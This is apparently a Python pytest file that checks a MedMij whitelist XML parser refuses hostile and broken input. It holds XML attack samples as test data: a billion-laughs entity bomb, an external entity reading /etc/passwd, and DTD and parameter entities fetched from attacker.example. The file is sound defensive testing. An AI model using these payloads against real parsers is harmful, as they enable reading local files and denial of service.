"""Hostile and broken documents: refused with ListValidationError, nothing expanded."""

from __future__ import annotations

import codecs
import time

import pytest

from medmij_stack.protocol.lists import (
    DEFAULT_MAX_BYTES,
    ListKind,
    ListValidationError,
    parse_list,
    write_whitelist,
)
from tests.protocol.lists import samples

NS = b"xmlns://afsprakenstelsel.medmij.nl/whitelist/release2/"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Whitelist [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Whitelist xmlns="%s">
  <Tijdstempel>2021-04-16T10:43:41+01:00</Tijdstempel>
  <Volgnummer>1</Volgnummer>
  <MedMijNodes><MedMijNode>&lol9;</MedMijNode></MedMijNodes>
</Whitelist>
""".replace(b"%s", NS)

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Whitelist [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Whitelist xmlns="%s">
  <Tijdstempel>2021-04-16T10:43:41+01:00</Tijdstempel>
  <Volgnummer>1</Volgnummer>
  <MedMijNodes><MedMijNode>&secret;</MedMijNode></MedMijNodes>
</Whitelist>
""".replace(b"%s", NS)

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Whitelist SYSTEM "http://attacker.example/evil.dtd">
<Whitelist xmlns="%s">
  <Tijdstempel>2021-04-16T10:43:41+01:00</Tijdstempel>
  <Volgnummer>1</Volgnummer>
  <MedMijNodes/>
</Whitelist>
""".replace(b"%s", NS)

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Whitelist [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Whitelist xmlns="%s"/>
""".replace(b'xmlns="%s"', b'xmlns="' + NS + b'"')

PLAIN_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE Whitelist>
<Whitelist xmlns="%s">
  <Tijdstempel>2021-04-16T10:43:41+01:00</Tijdstempel>
  <Volgnummer>1</Volgnummer>
  <MedMijNodes/>
</Whitelist>
""".replace(b"%s", NS)


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(BILLION_LAUGHS, id="billion laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external entity"),
        pytest.param(EXTERNAL_DTD, id="external DTD"),
        pytest.param(PARAMETER_ENTITY, id="parameter entity"),
        pytest.param(PLAIN_DOCTYPE, id="harmless-looking DOCTYPE"),
    ],
)
def test_documents_with_a_doctype_are_refused_unexpanded(document: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(ListValidationError, match="DOCTYPE") as caught:
        parse_list(ListKind.WHITELIST, document)
    assert time.monotonic() - started < 1
    message = str(caught.value)
    assert "lollol" not in message
    assert "root:" not in message  # nothing from /etc/passwd


@pytest.mark.parametrize(
    ("document", "problem"),
    [
        pytest.param(b"", "empty", id="empty"),
        pytest.param(b"   \n", "empty", id="blank"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "not well-formed", id="binary"),
        pytest.param(b'{"Whitelist": []}', "not well-formed", id="JSON"),
        pytest.param(b"<Whitelist xmlns='" + NS + b"'><Tijdstempel>", "not well-formed", id="cut"),
        pytest.param(b"<a/><b/>", "not well-formed", id="two roots"),
        pytest.param(
            b"<Whitelist xmlns='" + NS + b"'>&undefined;</Whitelist>",
            "not well-formed",
            id="undefined entity",
        ),
        pytest.param(b"<Lijst xmlns='" + NS + b"'/>", "root element is <Lijst>", id="wrong root"),
        pytest.param(b"<Whitelist/>", "in namespace None", id="no namespace"),
    ],
)
def test_broken_documents_are_refused(document: bytes, problem: str) -> None:
    with pytest.raises(ListValidationError, match=problem) as caught:
        parse_list(ListKind.WHITELIST, document)
    assert str(caught.value).startswith("Whitelist")


def test_truncated_list_is_refused_with_its_line() -> None:
    document = write_whitelist(samples.whitelist())
    cut = document[: len(document) // 2]
    with pytest.raises(ListValidationError, match="not well-formed") as caught:
        parse_list(ListKind.WHITELIST, cut)
    assert caught.value.line is not None


def test_oversized_input_is_refused_before_parsing() -> None:
    huge = b"<Whitelist>" + b" " * DEFAULT_MAX_BYTES + b"</Whitelist>"
    with pytest.raises(ListValidationError, match="more than the limit"):
        parse_list(ListKind.WHITELIST, huge)


def test_size_limit_is_configurable() -> None:
    document = write_whitelist(samples.whitelist())
    with pytest.raises(ListValidationError, match=f"limit of {len(document) - 1}"):
        parse_list(ListKind.WHITELIST, document, max_bytes=len(document) - 1)
    assert parse_list(ListKind.WHITELIST, document, max_bytes=len(document)) == samples.whitelist()


def test_deeply_nested_document_is_refused() -> None:
    depth = 100_000
    document = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(ListValidationError):
        parse_list(ListKind.WHITELIST, document)


def test_text_instead_of_bytes_is_a_type_error() -> None:
    with pytest.raises(TypeError, match="bytes"):
        parse_list(ListKind.WHITELIST, "<Whitelist/>")  # type: ignore[arg-type]


UTF16_DOCTYPE = PLAIN_DOCTYPE.decode().replace(
    '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
)


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(UTF16_DOCTYPE.encode("utf-16"), id="UTF-16 with byte order mark"),
        # No byte order mark: the prolog scan cannot read it, the check after parsing can.
        pytest.param(UTF16_DOCTYPE.encode("utf-16-le"), id="UTF-16 without byte order mark"),
        pytest.param(codecs.BOM_UTF8 + PLAIN_DOCTYPE, id="UTF-8 with byte order mark"),
    ],
)
def test_doctype_is_found_in_other_encodings(document: bytes) -> None:
    with pytest.raises(ListValidationError, match="DOCTYPE"):
        parse_list(ListKind.WHITELIST, document)


def test_a_comment_mentioning_a_doctype_is_no_reason_to_refuse() -> None:
    document = write_whitelist(samples.whitelist()).replace(
        b"?>\n", b"?>\n<!-- no <!DOCTYPE here -->\n<?note <!DOCTYPE?>\n", 1
    )
    assert parse_list(ListKind.WHITELIST, document) == samples.whitelist()


def test_utf16_list_is_read() -> None:
    document = write_whitelist(samples.whitelist()).decode().replace("UTF-8", "UTF-16")
    assert parse_list(ListKind.WHITELIST, document.encode("utf-16")) == samples.whitelist()
